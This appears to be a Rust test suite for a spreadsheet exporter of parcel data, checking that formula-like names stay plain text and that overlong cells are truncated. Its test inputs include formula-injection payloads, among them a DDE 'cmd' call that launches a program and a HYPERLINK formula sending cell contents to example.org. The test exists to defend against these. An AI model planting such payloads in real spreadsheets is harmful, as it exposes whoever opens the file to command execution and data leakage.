//! Whatever the input holds, a cell with text is a cell with text.

use calamine::{Data, Reader};
use serde_json::json;

use crate::support::Run;

/// What a stranger may have put in a name, and how it reads in a cell.
fn names() -> Vec<(String, String)> {
    let same = [
        "=HYPERLINK(\"http://example.org/?\"&A1,\"klik\")",
        "=1+1",
        "+31 6 12345678",
        "-2+3",
        "@SUM(A1:A9)",
        "{=1+1}",
        "'=1+1",
        "=cmd|' /C calc'!A0",
        "007",
        "1e5",
        "-12",
        "TRUE",
        "2026-03-01",
        "http://example.org",
        "internal:'percelen'!A1",
        "mailto:a@example.org",
        "_x0041_",
        "<b>&amp;\"'</b>]]>",
        "regel een\nregel twee",
        "👵🏽 élève ﷽",
        "#REF!",
        "&[Page]&\"Arial\"",
    ];
    let mut names: Vec<(String, String)> = same.map(|name| (name.to_owned(), name.to_owned())).into();
    // Room around a name is taken off where it is read.
    names.push(("\t=1+1".to_owned(), "=1+1".to_owned()));
    names.push(("a\u{1}b\u{c}c\u{ffff}d".to_owned(), "abcd".to_owned()));
    names
}

fn project(names: &[String]) -> Run {
    let parcels: Vec<_> = names
        .iter()
        .enumerate()
        .map(|(at, name)| {
            json!({"type": "Feature", "properties": {"id": format!("p{at:02}"), "naam": name, "capaciteit": 12},
                "geometry": {"type": "Point", "coordinates": [237_000 + 10 * at, 472_000]}})
        })
        .collect();
    let parcels = json!({"type": "FeatureCollection", "features": parcels}).to_string();
    let title = names[0].replace('\\', "\\\\").replace('"', "\\\"");
    let project = format!(
        "title = \"{title}\"\nnorms = \"twente-start\"\n[[layer]]\nrole = \"voorzieningen\"\npath = \"v.csv\"\ncrs = \"EPSG:28992\"\ncategory = {{ field = \"soort\" }}\nsource = \"=2+2\"\n\
         [[layer]]\nrole = \"percelen\"\npath = \"p.geojson\"\ncrs = \"EPSG:28992\"\nsource = \"@bron\"\n"
    );
    let facilities = "id,naam,x,y,soort\n=v1,=winkel,237000,472050,supermarkt\n";
    Run::of(&[("project.toml", &project), ("p.geojson", &parcels), ("v.csv", facilities)])
}

#[test]
fn text_stays_text_whatever_it_looks_like() {
    let names = names();
    let run = project(&names.iter().map(|(name, _)| name.clone()).collect::<Vec<_>>());
    let sheet = run.sheet("percelen");
    let column = sheet.rows().next().unwrap().iter().position(|title| *title == "Naam").unwrap() as u32;
    for (at, (name, reads)) in names.iter().enumerate() {
        let found = sheet.get_value((at as u32 + 1, column)).unwrap();
        // The reader gives a text that says `_x0041_` back as a spreadsheet shows it.
        assert_eq!(found, &Data::String(reads.clone()), "{name:?}");
    }
    let mut book = run.book();
    for name in book.sheet_names() {
        assert!(book.worksheet_formula(&name).unwrap().is_empty(), "a formula on {name}");
    }
    for (name, part) in run.parts() {
        assert!(!part.contains("<f>") && !part.contains("<f ") && !part.contains("<hyperlink"), "{name}");
        if name.ends_with(".rels") {
            assert!(!part.contains("External"), "{name} points outside the file");
        }
        well_formed(&name, &part);
    }
    assert!(run.parts()["xl/styles.xml"].contains("quotePrefix=\"1\""), "an edited cell stays text too");
    assert_eq!(run.said()[0].0, names[0].0, "the title too");
}

/// Every part is XML that can be read to its end.
fn well_formed(name: &str, part: &str) {
    let mut reader = quick_xml::Reader::from_str(part);
    loop {
        match reader.read_event() {
            Ok(quick_xml::events::Event::Eof) => break,
            Ok(_) => {}
            Err(error) => panic!("{name}: {error}"),
        }
    }
    let forbidden = |sign: char| (sign < ' ' && !matches!(sign, '\t' | '\n' | '\r')) || matches!(sign, '\u{fffe}' | '\u{ffff}');
    assert!(!part.contains(forbidden), "{name}");
}

#[test]
fn a_text_that_no_cell_can_hold_is_cut_with_a_mark_and_whole_in_the_table() {
    let long = "lang ".repeat(8_000);
    let run = project(&["gewoon".to_owned(), long.trim().to_owned()]);
    let sheet = run.sheet("percelen");
    let column = sheet.rows().next().unwrap().iter().position(|title| *title == "Naam").unwrap() as u32;
    let Some(Data::String(cut)) = sheet.get_value((2, column)) else { panic!("no text") };
    assert_eq!(cut.chars().count(), 32_767);
    assert!(cut.starts_with("lang lang") && cut.ends_with(" … [afgekapt]"));
    let (header, rows) = run.csv("percelen");
    let naam = header.iter().position(|column| column == "naam").unwrap();
    assert_eq!(rows[1][naam], long.trim());
}
